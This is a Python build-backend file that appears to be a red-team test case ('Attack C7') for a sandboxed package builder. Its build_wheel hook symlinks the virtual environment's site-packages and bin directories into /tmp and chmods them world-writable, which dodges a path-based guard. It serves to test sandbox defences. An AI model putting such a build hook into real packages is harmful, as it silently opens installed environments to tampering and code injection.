# Attack C7: an untrusted build makes the venv's site-packages and bin/
# world-writable.  Landlock has no right for chmod; the kernel's
# environment guard looks at the path as written (/tmp/..., a symlink to
# the venv); the staging check does not judge a merged directory's mode,
# and the commit applies it (JOP_META) to the real venv.
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-chmod-env", "1.0"

def _attack():
    py = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    for name, target in (("site", f"{sys.prefix}/lib/{py}/site-packages"), ("bin", f"{sys.prefix}/bin")):
        lnk = f"/tmp/rt1lnk-{name}"
        try:
            os.symlink(target, lnk)
        except FileExistsError:
            pass
        try:
            os.chmod(lnk, 0o777)
        except OSError as e:
            open("/tmp/rt1chmod.err", "a").write(f"{lnk}: {e}\n")

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    _attack()
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {"rt1_chmod_env.py": b""})
